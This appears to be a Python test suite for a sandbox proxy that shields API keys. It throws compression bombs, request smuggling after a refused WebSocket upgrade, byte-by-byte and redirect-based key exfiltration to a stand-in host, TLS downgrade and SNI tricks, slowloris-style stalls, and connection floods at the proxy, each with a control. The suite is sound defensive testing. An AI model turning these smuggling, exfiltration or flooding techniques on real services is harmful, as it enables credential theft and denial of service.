"""Attacks on what passes between the sandbox and a server: compressed echoes, TLS, upgrades, slow and very many connections. Each has a control:
the same without the wall, or the same within the limits."""
import contextlib
import json
import pathlib
import re

import logins_outside as logins
import secret_world as worlds
from secret_attacks import RAW, raw
from secrets_outside import OTHER, RULES, SECRET, caller, curl, requests
from scratch import EVERYTHING, PATIENCE, until
from session import sanitized_too

TESTS = []
INSIDE = [*RULES, "secrets inside", "env API_KEY"]  # the control: no wall, and the secret is there


def test(function):
    TESTS.append(function)
    return function


# --- compressed answers ------------------------------------------------------------------------------------------------------------

UNPACKED = [f"{kind}{way}" for kind in ("gzip", "x-gzip", "streams", "deflate", "raw") for way in ("", "/chunks", "/close")]


@test
@sanitized_too
def compressed_echoes_are_cleaned(session):
    words = ["--next -sS -i -H \"x-api-key: $API_KEY\" --compressed https://allowed.test/packed/" + kind for kind in UNPACKED]
    done = curl(session, " ".join(words).removeprefix("--next -sS"))
    assert done.status == 0 and done.out.count("HTTP/1.1 200") == len(UNPACKED), done
    assert done.out.count('"x-api-key": "sk-ant-api03-') == len(UNPACKED) and SECRET not in done.out, done
    assert "content-encoding" not in done.out.lower(), done
    seen = requests(session)
    assert [(headers["accept-encoding"], headers["x-api-key"]) for _, _, headers, _ in seen] == [("identity", SECRET)] * len(UNPACKED), seen
    control = curl(session, " ".join(words).removeprefix("--next -sS"), rules=INSIDE)
    assert control.out.count(SECRET) >= len(UNPACKED) - 5 and "content-encoding: gzip" in control.out.lower(), control  # curl knows no raw, and one stream


@test
@sanitized_too
def what_cannot_be_unpacked_is_refused(session):
    for kind in ("br", "zstd", "twice"):
        done = curl(session, f'-w "%{{http_code}}" -H "x-api-key: $API_KEY" https://allowed.test/packed/{kind}')
        assert done.out == "bawn: the answer of allowed.test is refused: it is compressed in a way that cannot be unpacked here.\n502", done
        control = session.run(INSIDE, "sh", "-c", f'curl -sS -m 20 -H "x-api-key: $API_KEY" https://allowed.test/packed/{kind} | gzip -dc | wc -c',
                              env=caller(session))
        assert int(control.out) > 100, control


@test
@sanitized_too
def compressed_answers_that_lie_are_cut_off(session):
    """A bomb, a stream without its end, and what is no stream: the client sees that the answer is not complete, and the journal says why."""
    for kind, why in (("bomb", "unpacked, it is too large"), ("cut", "its compressed content is cut off"),
                      ("garbage", "its compressed content is malformed")):
        for way in ("", "/chunks") if kind != "bomb" else ("", "/close"):
            done = curl(session, f'-o got -w "%{{http_code}} %{{size_download}}" -H "x-api-key: $API_KEY" https://allowed.test/packed/{kind}{way}')
            assert done.status in (18, 56) and done.out.startswith("200 ") and int(done.out.split()[1]) < 4 << 20, (kind, way, done)
            assert SECRET.encode() not in (session.work / "got").read_bytes() if (session.work / "got").exists() else True
            told = session.events("refused")
            assert told and told[-1]["why"] == f"the answer of allowed.test is refused: {why}", (kind, told)
    done = curl(session, '-w "%{http_code}" https://allowed.test/packed/empty', "--next -sS -I https://allowed.test/packed/gzip")
    assert done.status == 0 and done.out.startswith("200HTTP/1.1 200"), done
    control = session.run(INSIDE, "sh", "-c", "curl -sS -m 20 --compressed https://allowed.test/packed/bomb | wc -c", env=caller(session))
    assert int(control.out) > 64 << 20, control


@test
@sanitized_too
def a_compressed_answer_to_a_refresh_is_read(session):
    logins.put(session)
    out = logins.agent(session, 'print(me()); print(refresh("/gzip/token")[1]); print(me())')
    before, answer, after = out.splitlines()
    events = session.lab.take()
    [issued] = [event[1] for event in events if event[0] == "issued"]
    assert (before, after) == ("200", "200") and not [token for token in issued.values() if token in out], out
    assert json.loads(answer)["refresh_token"].startswith("sk-ant-ort01-"), answer
    host = logins.on_host(session)["oauth"]
    assert (host["accessToken"], host["refreshToken"]) == (issued["access_token"], issued["refresh_token"]), host
    assert [event[1] for event in events if event[0] == "me"] == [logins.ACCESS, issued["access_token"]]  # the control: the server has seen both


@test
@sanitized_too
def an_answer_that_is_read_late_is_whole(session):
    """The server has sent it and closed, while the client reads little by little: with a length, without one, and on a connection that ends
    without TLS's farewell."""
    code = r"""
import time
def slow(path):
    plain = socket.socket()
    plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 32768)
    plain.connect(("allowed.test", 443))
    s = ssl.create_default_context().wrap_socket(plain, server_hostname="allowed.test")
    s.sendall(f"GET {path} HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n".encode())
    got = b""
    time.sleep(0.5)
    while part := s.recv(16384):
        got += part
        time.sleep(0.0005)
    return len(got.split(b"\r\n\r\n", 1)[1]), got[-5:]
print(slow("/bytes/3000000")[0], slow("/endless/3000000")[1])
"""
    done = raw(session, code)
    assert done.out == r"3000000 b'0\r\n\r\n'" + "\n", done


# --- upgrades ----------------------------------------------------------------------------------------------------------------------

UPGRADE = r"""
def upgrade(path, more=""):
    s = ssl.create_default_context().wrap_socket(socket.create_connection(("allowed.test", 443), PATIENCE), server_hostname="allowed.test")
    s.sendall(f"GET {path} HTTP/1.1\r\nHost: allowed.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n{more}x-api-key: {key}\r\n\r\n".encode())
    got = b""
    try:
        while part := s.recv(65536): got += part
    except OSError: pass
    return got.decode()
"""


@test
@sanitized_too
def a_websocket_is_cleaned_and_not_compressed(session):
    done = raw(session, UPGRADE + r'print(upgrade("/ws-echo", "Sec-WebSocket-Extensions: permessage-deflate\r\n")); print(upgrade("/ws-extended"))')
    assert done.out.startswith("HTTP/1.1 101 ") and '"x-api-key": "sk-ant-api03-' in done.out and SECRET not in done.out, done
    assert "502 Bad Gateway" in done.out and "it extends WebSocket, which was not asked for" in done.out, done
    seen = requests(session)
    assert [headers["x-api-key"] for _, _, headers, _ in seen] == [SECRET] * 2 and not any("sec-websocket-extensions" in h for _, _, h, _ in seen), seen
    control = session.run(INSIDE, "/usr/bin/python3", "-c", RAW + UPGRADE
                          + r'print(upgrade("/ws-extended", "Sec-WebSocket-Extensions: permessage-deflate\r\n"))', env=caller(session))
    assert SECRET in control.out and "HTTP/1.1 101" in control.out, control
    assert requests(session)[0][2]["sec-websocket-extensions"] == "permessage-deflate"


@test
@sanitized_too
def raw_bytes_after_an_upgrade_that_was_refused_are_a_request(session):
    """A client that goes on as if the server had agreed."""
    done = raw(session, r"""
import re
head = "GET {} HTTP/1.1\r\nHost: allowed.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"
evil = "GET https://other.test/raw HTTP/1.1\r\nHost: other.test\r\n\r\n"
print(re.findall("HTTP/1.1 [0-9]+", ask((head.format("/refuse") + evil).encode()).decode()))
print(evil in ask((head.format("/agree") + evil).encode()).decode())
""")
    assert done.out == "['HTTP/1.1 200', 'HTTP/1.1 400']\nTrue\n", done  # the control: a server that agreed gets the bytes
    assert [path for _, path, _, _ in requests(session)] == ["/refuse", "/agree"]


# --- other hosts -------------------------------------------------------------------------------------------------------------------

@test
def an_answer_that_moves_the_api_moves_no_secret(session):
    """The client believes the answer, and takes its key to the other host."""
    code = RAW + r"""
import json, urllib.request as u
def get(url):
    with u.urlopen(u.Request(url, headers={"x-api-key": key}), timeout=20) as answer:
        return answer.headers.get("Alt-Svc"), answer.read()
service, body = get("https://allowed.test/moved")
print(service)
get(json.loads(body)["api"])
"""
    for rules, is_walled in (([*RULES, "connect other.test"], True), ([*INSIDE, "connect other.test"], False)):
        done = session.run(rules, "/usr/bin/python3", "-c", code, env=caller(session), timeout=60)
        sent = {path: headers["x-api-key"] for _, path, headers, _ in requests(session)}
        assert done.status == 0 and sent["/moved"] == SECRET and (sent["/stolen"] == SECRET) != is_walled, (sent, done)
        assert (done.out == "None\n") == is_walled, done


@test
@sanitized_too
def a_placeholder_in_pieces_is_an_alarm_too(session):
    """Across chunks of a request, each in a segment of its own; and a header that comes byte by byte is swapped."""
    rules = [*RULES, "connect other.test", "secret TOKEN to other.test"]
    code = RAW + r"""
def send(host, pieces):
    plain = socket.create_connection((host, 443), PATIENCE)
    plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s = ssl.create_default_context().wrap_socket(plain, server_hostname=host)
    for piece in pieces: s.sendall(piece)
    return s.recv(65536)[:12]
def chunks(text): return [b"POST /post HTTP/1.1\r\nHost: other.test\r\nTransfer-Encoding: chunked\r\n\r\n"] + [b"1\r\n%c\r\n" % byte for byte in text] + [b"0\r\n\r\n"]
print(send("other.test", chunks(b"key=" + key.encode())), send("other.test", chunks(b"key=" + key.encode()[:-1] + b".")))
head = f"GET /slow HTTP/1.1\r\nHost: allowed.test\r\nx-api-key: {key}\r\n\r\n".encode()
print(send("allowed.test", [head[i:i + 1] for i in range(len(head))]))
"""
    done = session.run(rules, "/usr/bin/python3", "-c", code, env=caller(session, TOKEN=OTHER), timeout=60)
    assert done.out == "b'HTTP/1.1 403' b'HTTP/1.1 200'\nb'HTTP/1.1 200'\n", done
    assert [(event["name"], event["host"]) for event in session.events("secret-misused")] == [("API_KEY", "other.test")]
    assert [headers["x-api-key"] for _, path, headers, _ in requests(session) if path == "/slow"] == [SECRET]


# --- TLS ---------------------------------------------------------------------------------------------------------------------------

@test
def the_authority_of_another_session_is_worth_nothing(session):
    """And the leaf that a client gets is for its host alone, and signs nothing."""
    session.run(RULES, "sh", "-c", 'cp "$NODE_EXTRA_CA_CERTS" old.pem', env=caller(session))
    code = RAW + r"""
def leaf(cafile):
    context = ssl.create_default_context(cafile=cafile)
    try:
        with context.wrap_socket(socket.create_connection(("allowed.test", 443), PATIENCE), server_hostname="allowed.test") as s:
            open("leaf.pem", "w").write(ssl.DER_cert_to_PEM_cert(s.getpeercert(True)))
            return s.getpeercert()["subjectAltName"]
    except ssl.SSLCertVerificationError: return "untrusted"
print(leaf("old.pem"), leaf(os.environ["NODE_EXTRA_CA_CERTS"]))
"""
    done = session.run(RULES, "/usr/bin/python3", "-c", code, env=caller(session))
    assert done.out == "untrusted (('DNS', 'allowed.test'),)\n", done
    shown = session.run(RULES, "openssl", "x509", "-in", "leaf.pem", "-noout", "-ext", "basicConstraints,subjectAltName", env=caller(session))
    assert "CA:FALSE" in shown.out and shown.out.count("DNS:") == 1, shown


@test
@sanitized_too
def a_name_in_tls_decides_which_leaf_there_is(session):
    """No leaf is made for a host that is not the connection's, whatever name the client says."""
    code = r"""
def subject(name):
    context = ssl.create_default_context()
    context.check_hostname = False
    try:
        with context.wrap_socket(socket.create_connection(("allowed.test", 443), PATIENCE), server_hostname=name) as s: return s.getpeercert()["subjectAltName"]
    except OSError as error: return "refused"
print(subject("other.test"), subject("api.anthropic.com"), subject("sub.allowed.test"), subject("allowed.test"))
"""
    done = raw(session, code)
    assert done.out == "refused refused refused (('DNS', 'allowed.test'),)\n" and requests(session) == [], done


@test
@sanitized_too
def old_tls_is_not_spoken_inside_either(session):
    code = r"""
def speak(version):
    context = ssl.create_default_context()
    context.minimum_version, context.maximum_version = ssl.TLSVersion.TLSv1, version
    context.set_ciphers("ALL:@SECLEVEL=0")
    try:
        with context.wrap_socket(socket.create_connection(("allowed.test", 443), PATIENCE), server_hostname="allowed.test") as s: return s.version()
    except OSError as error: return "refused"
print([speak(version) for version in (ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1, ssl.TLSVersion.TLSv1_2, ssl.TLSVersion.TLSv1_3)])
"""
    done = raw(session, code)
    assert done.out == "['refused', 'refused', 'TLSv1.2', 'TLSv1.3']\n", done


@test
def renegotiation_is_refused(session):
    port = worlds.RENEGOTIATES
    code = f"""
import subprocess
client = subprocess.Popen("openssl s_client -tls1_2 -connect allowed.test:{port} -servername allowed.test".split(), stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                          stderr=subprocess.STDOUT)
said = b""
def say(line):
    try: client.stdin.write(line); client.stdin.flush()
    except BrokenPipeError: pass   # it has ended
say(b"R\\n")
while part := client.stdout.read1():   # until the client ends, which it does when the server has closed
    if b"RENEGOTIATING" in part and b"RENEGOTIATING" not in said:
        say(b"GET /after HTTP/1.1\\r\\nHost: allowed.test:{port}\\r\\nConnection: close\\r\\n\\r\\n")
    said += part
print(said.decode(errors="replace"))
"""
    rules = [f"connect allowed.test:{port}"]
    done = session.run([*rules, f"secret API_KEY to allowed.test:{port}"], "/usr/bin/python3", "-c", code, env=caller(session))
    assert "RENEGOTIATING" in done.out and "no renegotiation" in done.out and requests(session) == [], done
    control = session.run(rules, "/usr/bin/python3", "-c", code, env=caller(session))
    assert "RENEGOTIATING" in control.out and [path for _, path, _, _ in requests(session)] == ["/after"], control


# --- very many, and very slow ------------------------------------------------------------------------------------------------------

@test
@sanitized_too
def slow_clients_hold_nobody_up_and_are_given_up(session):
    """A hundred that send a head and never end it, a hundred in the middle of a handshake: others are answered meanwhile."""
    code = r"""
import select, time
context = ssl.create_default_context()
def begin():
    plain = socket.create_connection(("allowed.test", 443), PATIENCE)
    return context.wrap_socket(plain, server_hostname="allowed.test")
incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
try: context.wrap_bio(incoming, outgoing, server_hostname="allowed.test").do_handshake()
except ssl.SSLWantReadError: hello = outgoing.read()
slow, began = [], time.monotonic()
for number in range(100):
    slow.append(begin())
    slow[-1].sendall(b"G")
    slow.append(socket.create_connection(("allowed.test", 443), PATIENCE))
    slow[-1].sendall(hello)
fast = ask(f"GET /fast HTTP/1.1\r\nHost: allowed.test\r\nx-api-key: {key}\r\nConnection: close\r\n\r\n".encode())
print(fast[:15], len(slow))
quiet = begin()
left = 0
for one in slow:
    one.settimeout(60)
    try:
        while one.recv(65536): pass
    except ConnectionError: pass
    except TimeoutError: left += 1
quiet.sendall(f"GET /quiet HTTP/1.1\r\nHost: allowed.test\r\nx-api-key: {key}\r\nConnection: close\r\n\r\n".encode())
print(left, time.monotonic() - began > 25, quiet.recv(15))
"""
    done = session.run(RULES, "/usr/bin/python3", "-c", RAW + code, env=caller(session), timeout=150)
    # The last one is the control: a client that is silent between requests may be.
    assert done.out == "b'HTTP/1.1 200 OK' 200\n0 True b'HTTP/1.1 200 OK'\n", done
    assert not session.events("vault-died")


MEANWHILE = r"""
import threading
def other(number):
    got = ask(f"GET /other/{number} HTTP/1.1\r\nHost: other.test\r\nx-token: {os.environ['TOKEN']}\r\nConnection: close\r\n\r\n".encode(), "other.test")
    return got.split(b"\r\n", 1)[0].decode()
"""


@test
@sanitized_too
def endless_interim_answers_of_one_host_are_refused_and_others_are_answered(session):
    """As many as a server may send are passed over; more are a 502, and the server loses its connection."""
    code = RAW + MEANWHILE + r"""
def interim(many):
    plain = socket.create_connection(("allowed.test", 443), 3 * PATIENCE)   # it gives up later than the others
    s = ssl.create_default_context().wrap_socket(plain, server_hostname="allowed.test")
    s.sendall(f"GET /interim/{many} HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n".encode())
    return b"".join(iter(lambda: s.recv(65536), b"")).decode()
answers = []
endless = threading.Thread(target=lambda: answers.append(interim("endless")))
endless.start()
others = []
while len(others) < 3 or (endless.is_alive() and "" not in others and len(others) < 100): others.append(other(len(others)))
print(set(others), flush=True)
if endless.is_alive(): os._exit(len(others))   # nobody has refused them
for answer in (*answers, interim(33), interim(32)): print(answer.split("\r\n")[0], answer.split("\r\n\r\n")[1].strip(), answer.count("103 Early"))
"""
    rules = [*RULES, "connect other.test", "secret TOKEN to other.test"]
    done = session.run(rules, "/usr/bin/python3", "-c", code, env=caller(session, TOKEN=OTHER), timeout=60)
    refused = "HTTP/1.1 502 Bad Gateway bawn: the answer of allowed.test is refused: too many interim answers came before it. 0\n"
    assert done.out == "{'HTTP/1.1 200 OK'}\n" + refused * 2 + "HTTP/1.1 200 OK after them 0\n", done
    until(lambda: ("interim-ended",) in session.lab.take(), "the server has lost its connection")


@test
@sanitized_too
def requests_without_end_on_one_connection_hold_no_other_up(session):
    """The front refuses each of them, which takes it longer than it takes a client to send more."""
    code = RAW + MEANWHILE + r"""
import select
reading, writing = os.pipe()
def flood():
    s = ssl.create_default_context().wrap_socket(socket.create_connection(("allowed.test", 443), PATIENCE), server_hostname="allowed.test")
    s.setblocking(False)
    many, got = b"GET /not HTTP/1.1\r\nHost: allowed.test\r\n\r\n" * 300, 0
    while True:
        try: s.send(many)
        except ssl.SSLWantWriteError: pass
        try:
            if not got: os.write(writing, s.recv(65536)[:12])
            got += len(s.recv(65536))
        except ssl.SSLWantReadError: select.select([s], [s], [])
child = os.fork()
if child == 0:
    try: flood()
    finally: os._exit(1)
print(os.read(reading, 12))
print(*[other(number) for number in range(3)], sep="\n", flush=True)
os.kill(child, 9)
"""
    rules = ["connect allowed.test/allowed GET", "connect other.test", "secret TOKEN to other.test"]
    done = session.run(rules, "/usr/bin/python3", "-c", code, env=caller(session, TOKEN=OTHER), timeout=100)
    assert done.out == "b'HTTP/1.1 403'\n" + "HTTP/1.1 200 OK\n" * 3, done


def memory_of_vault() -> dict:
    """Kibibytes of both processes: now, and at most until now."""
    found = {}
    for path in pathlib.Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):  # it has ended
            words = path.read_bytes().split(b"\0")
            if words[0].startswith(b"bawn-vault-"):
                status = (path.parent / "status").read_text()
                found[words[0].decode()] = {name: int(re.search(rf"{name}:\s+(\d+)", status).group(1)) for name in ("VmRSS", "VmHWM")}
    assert len(found) == 2, found
    return found


@test
def thousands_of_connections_are_answered_or_refused(session):
    """In sequence two thousand (ten thousand in `make test-all`) that end in their handshake, then a thousand at once, twice, with 256 descriptors for
    each process at first: all are answered, and the vault's memory does not grow from one round to the next."""
    code = RAW + r"""
import resource, struct
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
context = ssl.create_default_context()
incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
try: context.wrap_bio(incoming, outgoing, server_hostname="allowed.test").do_handshake()
except ssl.SSLWantReadError: hello = outgoing.read()
def pause(word):
    print(word, flush=True)
    sys.stdin.readline()
def thousand():
    held = [context.wrap_socket(socket.create_connection(("allowed.test", 443), 30), server_hostname="allowed.test") for _ in range(1000)]
    for one in held: one.sendall(f"GET /many HTTP/1.1\r\nHost: allowed.test\r\nx-api-key: {key}\r\n\r\n".encode())
    answered = sum(one.recv(15) == b"HTTP/1.1 200 OK" for one in held)
    pause(answered)
    for one in held: one.close()
for number in range(int(sys.argv[1])):
    s = socket.create_connection(("allowed.test", 443), 30)
    s.sendall(hello)
    if number % 3: s.recv(1)
    if number % 2: s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    s.close()
pause("sequence")
thousand()
thousand()
print(ask(f"GET /last HTTP/1.1\r\nHost: allowed.test\r\nx-api-key: {key}\r\nConnection: close\r\n\r\n".encode())[:15])
"""
    process = session.start(RULES, "/usr/bin/python3", "-c", code, "10000" if EVERYTHING else "2000", env=caller(session),
                            prefix=["prlimit", "--nofile=256:20000"])
    seen = []
    for _ in range(3):
        said = process.stdout.readline()
        assert said in ("sequence\n", "1000\n"), (said, seen, process.communicate("\n\n\n", timeout=60))
        seen.append(memory_of_vault())
        process.stdin.write("\n")
        process.stdin.flush()
    out, errors = process.communicate(timeout=6 * PATIENCE)
    assert out == "b'HTTP/1.1 200 OK'\n" and not session.events("vault-died"), (out, errors)
    for part in ("bawn-vault-front", "bawn-vault-back"):
        sequence, first, second = (memory[part] for memory in seen)
        assert sequence["VmHWM"] < 96 << 10 and first["VmHWM"] < 384 << 10, seen
        assert second["VmRSS"] < first["VmRSS"] * 1.2 + 8192, seen
    answers = [headers["x-api-key"] for _, path, headers, _ in requests(session) if path == "/many"]
    assert answers == [SECRET] * 2000, len(answers)
